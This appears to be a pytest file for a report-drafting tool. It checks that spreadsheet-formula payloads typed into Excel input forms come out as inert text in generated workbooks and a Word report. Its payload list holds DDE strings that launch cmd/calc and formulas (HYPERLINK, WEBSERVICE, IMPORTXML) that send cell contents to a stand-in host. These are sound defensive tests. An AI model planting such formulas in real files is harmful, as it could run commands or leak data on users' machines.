"""Text that looks like a formula is text: in every workbook that goes out, and in Word."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest

from drafter.desk.year.results import Drafted
from drafter.desk.year.workspace import Workspace
from drafter.model.shown import shown
from tests.building import SETTINGS, catalogue_bytes, paragraphs, workspace

S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\t+",
    "\r@",
    " =",
    "'=",
    "＝",
    "＋",
    "－",
    "＠",
    ";=",
    ",=",
]
PAYLOADS = [
    *(f"{start}1+1" for start in STARTS),
    *(f"{start}cmd|' /C calc'!A0" for start in STARTS),
    *(
        f'{start}HYPERLINK("http://x.example/"&A1,"看")'
        for start in ("=", "+", "-", "@", "\t=", "\r=")
    ),
    *(f"{start}SUM(1,2)" for start in ("=", "+", "-", "@", "@@", "=-", "=+", "-=", "+-")),
    '=DDE("cmd","/C calc","x")',
    "=MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''",
    '=WEBSERVICE("http://x.example/")',
    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "=INDIRECT(A1)",
    "{=1+1}",
    "=1\n=2",
    "<f>1+1</f>",
    "&#61;1+1",
    '"=1+1"',
    "%0A=1+1",
    "=_xlfn.CALL(1)",
    "{{ 7 * 7 }}",
]
KEYS = [f"甲.文{number}" for number in range(len(PAYLOADS))]
INDICATORS = "\n".join(
    [
        *(f"{key} | 文字{n} |    | 文本 | 县局" for n, key in enumerate(KEYS)),
        *(f"乙.数{n} | 数字{n} | 件 | 整数 | 县局" for n in range(len(PAYLOADS))),
        "丙.长文 | 长文 | | 长文本 | 县局",
        "丙.名单 | 名单 | | 明细表 | 县局",
    ]
)
TABLES = "丙.名单 | 单位 | | 文本 \n 丙.名单 | 人数 | 人 | 整数"
LINES = "\n".join(
    [
        *(f"|{{{{ {key} }}}}" for key in KEYS),
        "|{{p 丙.长文 }}",
        "|{% for 行 in 丙.名单 %}{{ 行.单位 }}；{% endfor %}",
    ]
)


def payload_of(key: str) -> str:
    """The payload of an indicator's row."""
    return PAYLOADS[int(re.sub(r"\D", "", key))]


def fill(form: Path, target: Path) -> None:
    """Every cell that takes a word, filled in with what looks like a formula, as text."""
    book = openpyxl.load_workbook(form)
    main, table, long = book["填报表"], book["名单"], book["文字材料"]
    cells = [main["C3"], main["F3"], long["D4"], long["E4"]]
    texts = [PAYLOADS[0], PAYLOADS[18], "\n".join(PAYLOADS), PAYLOADS[1]]
    for row in range(6, main.max_row + 1):
        key = str(main.cell(row, 1).value or "")
        if key.startswith(("甲", "乙")):
            cells += [main.cell(row, 4), main.cell(row, 6)]
            texts += [payload_of(key)] * 2
    for row, payload in enumerate(PAYLOADS[:38], start=6):
        cells += [table.cell(row, 3), table.cell(row, 4), table.cell(row, 5)]
        texts += [payload] * 3
    for cell, text in zip(cells, texts, strict=True):
        cell.value, cell.data_type, cell.quotePrefix = text, "s", True
    target.parent.mkdir(parents=True)
    book.save(target)


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Workspace:
    """A workspace whose department answers so, last year and this."""
    folder = tmp_path_factory.mktemp("公式")
    for year in ("2023", "2024"):
        settings = SETTINGS.replace("2024", year)
        content = catalogue_bytes(INDICATORS, tables=TABLES, settings=settings)
        made = workspace(folder, content, LINES)
        fill(made.forms().files[0], folder / f"inputs/{year}/县局.xlsx")
    return made


@pytest.fixture(scope="module")
def drafted(opened: Workspace) -> Drafted:
    return opened.draft()


def cells(path: Path) -> Iterator[tuple[str, str, ElementTree.Element]]:
    """Each cell of a workbook: its sheet's part, its address, its element."""
    with zipfile.ZipFile(path) as package:
        for part in package.namelist():
            if part.startswith("xl/worksheets/sheet"):
                for cell in ElementTree.fromstring(package.read(part)).iter(f"{S}c"):
                    yield part, cell.get("r", ""), cell


def texts(path: Path) -> set[str]:
    book = openpyxl.load_workbook(path)
    return {str(cell.value) for sheet in book for row in sheet for cell in row if cell.value}


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("name", ["溯源.xlsx", "核查.xlsx"])
def test_every_cell_of_a_workbook_that_goes_out_is_text(drafted: Drafted, name: str) -> None:
    for part, address, cell in cells(drafted.folder / name):
        assert cell.find(f"{S}f") is None, (part, address)
        assert cell.get("t") in ("s", "inlineStr", None), (part, address)
        assert cell.get("t") or cell.find(f"{S}v") is None, (part, address)


def test_the_trace_quotes_what_was_typed(drafted: Drafted) -> None:
    said = texts(drafted.folder / "溯源.xlsx")
    for payload in PAYLOADS:
        assert payload.replace("\r", "\n").strip() in said


def test_the_findings_quote_what_was_typed_and_explained(drafted: Drafted) -> None:
    said = "\0".join(texts(drafted.folder / "核查.xlsx"))
    for payload in PAYLOADS:
        quoted = shown(payload.replace(chr(13), chr(10)).strip()[:40])
        assert f"填的是“{quoted}" in said, payload


def test_last_years_column_of_a_form_is_text(opened: Workspace) -> None:
    form = opened.forms().files[0]
    found = [cell for part, at, cell in cells(form) if part.endswith("sheet1.xml") and at[0] == "E"]
    assert all(cell.find(f"{S}f") is None for cell in found)
    shown = {str(cell.value) for cell in openpyxl.load_workbook(form)["填报表"]["E"]}
    for payload in PAYLOADS:
        assert payload.replace("\r", "\n").strip() in shown


def test_word_prints_it_and_runs_nothing(drafted: Drafted) -> None:
    content = (drafted.folder / "报告.docx").read_bytes()
    printed = paragraphs(content)
    for payload in PAYLOADS:
        lines = payload.replace("\r", "\n").strip().split("\n")
        assert all(any(line in paragraph for paragraph in printed) for line in lines), payload
    with zipfile.ZipFile(drafted.folder / "报告.docx") as package:
        body = ElementTree.fromstring(package.read("word/document.xml"))
    assert not list(body.iter(f"{W}fldSimple"))
    assert not [code for code in body.iter(f"{W}instrText") if "PAGE" not in (code.text or "")]
    assert not list(body.iter(f"{W}hyperlink"))
